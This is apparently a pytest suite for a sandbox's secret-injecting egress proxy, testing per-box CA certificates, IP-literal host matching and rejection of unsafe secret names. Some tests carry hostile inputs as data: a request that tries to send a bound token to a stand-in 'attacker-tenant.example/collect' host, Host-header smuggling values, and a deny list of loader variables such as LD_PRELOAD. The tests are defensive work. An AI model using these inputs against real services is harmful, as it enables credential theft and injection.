"""Bound hosts given as IP literals: the per-box CA's leaf names an address as an IP address SAN, a binding's host
patterns match an address in any spelling the egress door accepts, and the policy refuses a pattern that spells
no address. The TLS checks are real handshakes (Python's ssl, OpenSSL) over memory BIOs."""

from __future__ import annotations

import ipaddress
import re

import pytest
from cryptography import x509

from fuzz.targets import box_ca_leaf, tls_accepts
from tkbox_nb.rules.box_ca import BoxCA
from tkbox_nb.rules.hostnames import host_pattern_matches
from tkbox_nb.rules.secrets import Binding, rewrite_request
from tkbox_nb.core.errors import PolicyError
from tkbox_nb.policy import Policy


@pytest.mark.parametrize("spelling,address", [
    ("198.18.7.2", "198.18.7.2"), ("3323070210", "198.18.7.2"), ("0xc6.18.7.2", "198.18.7.2"),
    ("198.18.7.2.", "198.18.7.2"), ("[2001:db8::1]", "2001:db8::1"), ("[2001:DB8:0::1%25eth0]", "2001:db8::1"),
    ("2001:db8:0:0:0:0:0:1", "2001:db8::1")])
def test_a_leaf_for_an_ip_literal_carries_an_ip_address_san_never_a_dns_name(spelling, address):
    ca = BoxCA("test-bound-hosts")
    _, leaf = ca.leaf(spelling)
    sans = list(leaf.extensions.get_extension_for_class(x509.SubjectAlternativeName).value)
    assert sans == [x509.IPAddress(ipaddress.ip_address(address))]
    assert not leaf.subject.get_attributes_for_oid(x509.NameOID.COMMON_NAME)
    server = ca.server_context(spelling)
    assert server is ca.server_context(address)  # one leaf per address, however the box spelled it
    assert tls_accepts(server, ca.pem(), address)
    assert not tls_accepts(server, ca.pem(), "198.18.7.3" if "." in address else "2001:db8::2")


def test_a_leaf_for_a_name_keeps_its_dns_name_and_is_not_good_for_an_address_or_another_name():
    ca = BoxCA("test-bound-hosts")
    _, leaf = ca.leaf("API.Example.org.")
    assert list(leaf.extensions.get_extension_for_class(x509.SubjectAlternativeName).value) == [
        x509.DNSName("api.example.org")]
    server = ca.server_context("api.example.org")
    assert tls_accepts(server, ca.pem(), "api.example.org")
    assert not tls_accepts(server, ca.pem(), "x.api.example.org")
    assert not tls_accepts(server, ca.pem(), "198.18.7.2")


def test_a_name_longer_than_a_common_name_still_gets_a_leaf():
    """A common name holds at most 64 characters; a leaf names its host in the SAN only."""
    name = "a" * 63 + "." + "b" * 63 + ".example"
    ca = BoxCA("test-bound-hosts")
    assert tls_accepts(ca.server_context(name), ca.pem(), name)


@pytest.mark.parametrize("pattern,host,matches", [
    ("198.18.7.2", "198.18.7.2", True), ("0xc6.18.7.2", "198.18.7.2", True), ("[198.18.7.2]", "198.18.7.2", True),
    ("[2001:DB8::1]", "2001:db8::1", True), ("2001:db8:0::1", "2001:db8::1", True),
    ("[2001:db8::1%eth0]", "2001:db8::1", True), ("198.18.7.*", "198.18.7.2", True),
    ("198.18.7.2", "198.18.7.3", False), ("198.18.7.2", "::ffff:c612:702", False),
    ("[2001:db8::1]", "2001:db8::10", False), ("[2001:db8::1]", "1", False), ("198.18.7.2", "api.example.org", False),
    ("*.example.org", "198.18.7.2", False), ("API.example.org", "api.example.org", True),
    ("*.example.org", "x.example.org", True)])
def test_host_patterns_match_an_ip_literal_as_the_address_it_spells(pattern, host, matches):
    """Compared as text, `[2001:db8::1]` was a glob character class and `2001:db8:0::1` never the door's
    `2001:db8::1`."""
    assert host_pattern_matches(host, pattern) is matches


def test_the_value_is_swapped_for_a_bound_address_in_any_spelling_and_only_there():
    b = Binding("TOKEN", ["[2001:DB8::1]", "0xc6.18.7.2"], "Authorization", "Bearer {value}", "env:T",
                value="the-value")
    headers = [(b"Authorization", b.placeholder.encode())]
    for host in ("198.18.7.2", "2001:db8::1"):
        rw = rewrite_request(host, b"/", headers, [b], tls=True)
        assert rw.headers == [(b"Authorization", b"Bearer the-value")] and rw.swaps == [("TOKEN", "Authorization")]
    for host in ("198.18.7.3", "::ffff:c612:702", "2001:db8::2"):
        rw = rewrite_request(host, b"/", headers, [b], tls=True)
        assert rw.headers == headers and not rw.swaps and rw.misuses


def test_the_policy_decides_a_swap_to_an_address_as_the_door_does():
    policy = Policy.from_toml('[secrets.T]\nhosts = ["[2001:DB8::1]"]\nheader = "Authorization"\nsource = "env:T"\n')
    facts = {"door": "secrets", "kind": "swap", "name": "T", "binding_hosts": ["[2001:DB8::1]"],
             "binding_header": "Authorization", "header": "Authorization", "tls": True}
    assert policy.decide(dict(facts, host="2001:db8::1")).allowed
    assert not policy.decide(dict(facts, host="2001:db8::2")).allowed


@pytest.mark.parametrize("bad,why", [("1.2.3.256", "looks like an IP address"), ("[api.example.org]", "not an IPv6"),
                                     ("0x1ffffffff", "looks like an IP address")])
def test_a_bound_host_that_spells_no_address_is_one_policy_error(bad, why):
    with pytest.raises(PolicyError, match=rf"secrets\.T\.hosts entry .*{why}") as e:
        Policy.from_toml(f'[secrets.T]\nhosts = ["{bad}"]\nheader = "Authorization"\nsource = "env:T"\n')
    assert "\n" not in str(e.value)


@pytest.mark.parametrize("host", [b"198.18.7.2", b"[2001:db8::1%25eth0]", b"0xc6.0x12.7.2", b"[::ffff:198.18.7.2]",
                                  b"api.example.org"])
def test_the_fuzz_target_holds_for_every_kind_of_bound_host(host):
    """The property the box-ca-leaf target checks under hypothesis and atheris, on the spellings of the issue."""
    box_ca_leaf(host)


def test_a_notebook_secret_bound_to_a_host_that_spells_no_address_is_one_error():
    """%box_secret checks its --host values as the policy checks hosts, before asking for the value."""
    from tkbox_nb.core.errors import TkboxError
    from tkbox_nb.box.notebook_box import HostMagics
    asked = []
    with pytest.raises(TkboxError, match=r"^%box_secret: --host '1\.2\.3\.256': .*looks like an IP address"):
        HostMagics(None, asked.append).run("box_secret", "T --host api.example.org --host 1.2.3.256")
    assert not asked


@pytest.mark.parametrize("host, port, method, target, headers, sent", [
    ("api.example.org", 443, b"GET", b"/v1?x=1", [(b"Host", b"api.example.org")], b"/v1?x=1"),
    ("api.example.org", 443, b"GET", b"/", [(b"host", b"API.Example.Org.:443")], b"/"),
    ("api.example.org", 8443, b"POST", b"https://api.example.org:8443/a?b", [(b"Host", b"api.example.org:8443")],
     b"/a?b"),
    ("api.example.org", 443, b"GET", b"HTTPS://api.example.org", [(b"Host", b"api.example.org")], b"/"),
    ("198.18.7.2", 443, b"GET", b"/", [(b"Host", b"0xc6.18.7.2")], b"/"),
    ("2001:db8::1", 8443, b"GET", b"/", [(b"Host", b"[2001:DB8:0::1]:8443")], b"/"),
    ("api.example.org", 443, b"OPTIONS", b"*", [(b"Host", b"api.example.org")], b"*"),
])
def test_a_request_for_the_connect_host_goes_on_in_origin_form(host, port, method, target, headers, sent):
    from tkbox_nb.doors.intercept import bound_target, for_the_connect_host
    assert bound_target(host, port, method, target, headers) == sent
    want = (f"[{host}]" if ":" in host else host) + ("" if port == 443 else f":{port}")
    assert for_the_connect_host(host, port, headers + [(b"X", b"y")]) == [(headers[0][0], want.encode()), (b"X", b"y")]


@pytest.mark.parametrize("target, headers, why", [
    (b"/", [(b"Host", b"attacker-tenant.example")], "Host 'attacker-tenant.example' is not api.example.org:443"),
    (b"https://attacker-tenant.example/collect", [(b"Host", b"attacker-tenant.example")], "Host"),
    (b"https://attacker-tenant.example/collect", [(b"Host", b"api.example.org")], "target"),
    (b"https://api.example.org:8443/", [(b"Host", b"api.example.org")], "target"),
    (b"https://user@api.example.org/", [(b"Host", b"api.example.org")], "target"),
    (b"http://api.example.org/", [(b"Host", b"api.example.org")], "neither origin-form"),
    (b"api.example.org:443", [(b"Host", b"api.example.org")], "neither origin-form"),
    (b"*", [(b"Host", b"api.example.org")], "neither origin-form"),  # not OPTIONS
    (b"/", [], "0 Host headers"),
    (b"/", [(b"Host", b"api.example.org"), (b"host", b"attacker-tenant.example")], "2 Host headers"),
    (b"/", [(b"Host", b"api.example.org"), (b"Host", b"api.example.org")], "2 Host headers"),
    (b"/", [(b"Host", b"api.example.org:8443")], "Host"),
    (b"/", [(b"Host", b"api.example.org:" + b"4" * 5000)], "Host"),
    (b"/", [(b"Host", b"user@api.example.org")], "Host"),
    (b"/", [(b"Host", b"api.example.org.evil")], "Host"),
    (b"/", [(b"Host", b"[api.example.org]")], "Host"),
    (b"/", [(b"Host", b"")], "Host"),
])
def test_a_request_naming_another_host_over_the_intercepted_tls_is_refused_before_any_swap(target, headers, why):
    """Over the TLS to a bound host, the value went into a request whose Host header or absolute-form target named
    another host (another tenant at the same front end): it is refused with 400, whatever the binding's misuse."""
    from tkbox_nb.doors.intercept import Refused, bound_target
    with pytest.raises(Refused, match=re.escape(why)) as e:
        bound_target("api.example.org", 443, b"GET", target, headers)
    assert e.value.status == 400


def test_a_request_for_another_host_is_answered_400_and_signed_and_nothing_goes_upstream(tmp_path):
    """Through the door: the misuse is signed for the placeholder the request held, the connection's signed end
    says why, and the upstream (verified as the CONNECT host) never sees the request."""
    from tests.bound_relay import VALUE, Upstream, relay
    upstream = Upstream(tmp_path, lambda head: b"HTTP/1.1 200 OK\r\ncontent-length: 2\r\nconnection: close\r\n\r\nok")
    out = relay(upstream, lambda b: (f"GET https://attacker-tenant.example/collect HTTP/1.1\r\nHost: "
                                     f"attacker-tenant.example\r\nAuthorization: {b.placeholder}\r\n\r\n").encode())
    out.thread.join(5)
    assert out.read.startswith(b"HTTP/1.1 400 ") and b"attacker-tenant.example" in out.read
    assert all(VALUE.encode() not in seen for seen in upstream.seen) and not any(upstream.seen)
    [(kind, facts, verdict)] = out.secrets_records()
    assert kind == "misuse" and "another host" in facts["where"] and facts["tls"] is True
    assert out.signed_end["error"].startswith("refused by the secrets door: a request whose Host")
    good = relay(upstream, lambda b: (f"GET /x HTTP/1.1\r\nHost: api.tkb.test:{upstream.port}\r\n"
                                      f"Authorization: {b.placeholder}\r\n\r\n").encode())
    assert good.read.endswith(b"\r\n\r\nok") and [r[0] for r in good.secrets_records()] == ["swap"]
    assert upstream.seen[-1].startswith(b"GET /x HTTP/1.1\r\nHost: api.tkb.test:%d\r\n" % upstream.port)


@pytest.mark.parametrize("name, why", [("A=B", "must be an environment variable name"), ("1X", "environment variable"),
                                       ("PATH", "set by the box itself"), ("HTTPS_PROXY", "set by the box itself"),
                                       ("https_proxy", "set by the box itself"), ("SSL_CERT_FILE", "set by the box"),
                                       ("TKBOX_DOOR_FD", "set by the box itself")])
def test_a_secret_name_that_is_no_variable_or_one_the_box_sets_is_one_error(name, why):
    """`A=B` made every later box fail (bwrap --setenv) until a restart; PATH, a proxy, the CA bundle or TKBOX_*
    would silently override the box's own environment. Refused by %box_secret and the policy alike, in one line."""
    from tkbox_nb.core.errors import TkboxError
    from tkbox_nb.box.notebook_box import HostMagics
    asked = []
    with pytest.raises(TkboxError, match=rf"^%box_secret: .*{why}") as e:
        HostMagics(None, asked.append).run("box_secret", f"'{name}' --host api.example.org --env HOME")
    assert not asked and "\n" not in str(e.value)
    if "=" not in name:
        with pytest.raises(PolicyError, match=rf"secrets\.{name}: .*{why}"):
            Policy.from_toml(f'[secrets.{name}]\nhosts = ["api.example.org"]\nheader = "Authorization"\n'
                             'source = "env:T"\n')


def test_every_variable_the_box_sets_is_refused_as_a_secret_name_but_its_dummy_api_keys():
    from tkbox_nb.doors.egress_env import egress_env
    from tkbox_nb.doors.model import box_env
    from tkbox_nb.doors.packages import box_env as packages_env
    from tkbox_nb.policy.secrets import name_error
    names = set(egress_env()) | set(box_env()) | set(packages_env()) | {"PATH", "HOME", "LANG", "USER", "PYTHONPATH",
                                                   "PYTHONDONTWRITEBYTECODE", "TKBOX_BOX_ID", "TKBOX_SEED",
                                                   "SSL_CERT_FILE", "REQUESTS_CA_BUNDLE", "CURL_CA_BUNDLE", "PIP_CERT",
                                                   "NODE_EXTRA_CA_CERTS", "TKBOX_KERNEL_EARLY"}
    assert {n for n in names if name_error(n) is None} == {"OPENAI_API_KEY", "ANTHROPIC_API_KEY"}


START = ["LD_PRELOAD", "LD_LIBRARY_PATH", "ld_audit", "PYTHONSTARTUP", "PYTHONHOME", "PYTHONINSPECT", "PYTHONWARNINGS",
         "GCONV_PATH", "GLIBC_TUNABLES", "MALLOC_CHECK_", "BASH_ENV", "NODE_OPTIONS", "JAVA_TOOL_OPTIONS", "IPYTHONDIR",
         "JUPYTER_CONFIG_DIR", "PERL5OPT", "RUBYOPT", "TMPDIR"]


@pytest.mark.parametrize("name", START)
def test_a_loader_or_interpreter_start_variable_is_refused_as_a_secret_name_in_one_line(name):
    """A binding puts its placeholder in every process of the box: as LD_PRELOAD every process failed to load it (and
    a host value would be a library path), as PYTHONSTARTUP or PYTHONHOME every Python started from it. Refused by
    %box_secret and [secrets.NAME] alike, as the names the box sets itself are."""
    from tkbox_nb.core.errors import TkboxError
    from tkbox_nb.box.notebook_box import HostMagics
    asked = []
    why = "steers how every process in the box starts"
    with pytest.raises(TkboxError, match=rf"^%box_secret: '{name}': {name} {why}") as e:
        HostMagics(None, asked.append).run("box_secret", f"{name} --host api.example.org --env HOME")
    assert not asked and "\n" not in str(e.value)
    with pytest.raises(PolicyError, match=rf"^<string>: secrets\.{name}: {name} {why}") as e:
        Policy.from_toml(f'[secrets.{name}]\nhosts = ["api.example.org"]\nheader = "Authorization"\nsource = "env:T"\n')
    assert "\n" not in str(e.value)


def test_a_policy_binding_ld_preload_is_one_line_from_tkbox_run_and_nothing_runs(tmp_path):
    from conftest import run_cli
    policy = tmp_path / "p.toml"
    policy.write_text('[secrets.LD_PRELOAD]\nhosts = ["api.example.org"]\nheader = "Authorization"\nsource = "env:T"\n')
    r = run_cli("run", "--backend", "bwrap", "--policy", str(policy), "-o", str(tmp_path / "r.tkb"), "--",
                "touch", str(tmp_path / "ran"))
    assert r.returncode == 2 and len(r.stderr.strip().splitlines()) == 1, (r.returncode, r.stderr)
    assert "secrets.LD_PRELOAD: LD_PRELOAD steers how every process in the box starts" in r.stderr
    assert not (tmp_path / "ran").exists() and not (tmp_path / "r.tkb").exists()


def test_names_that_only_look_like_start_variables_are_still_secret_names():
    from tkbox_nb.policy.secrets import name_error
    assert [n for n in ("OPENAI_API_KEY", "GH_TOKEN", "LDAP_PASSWORD", "PY_TOKEN", "ENVIRONMENT", "NODE_TOKEN",
                        "MY_LD_PRELOAD", "API") if name_error(n)] == []
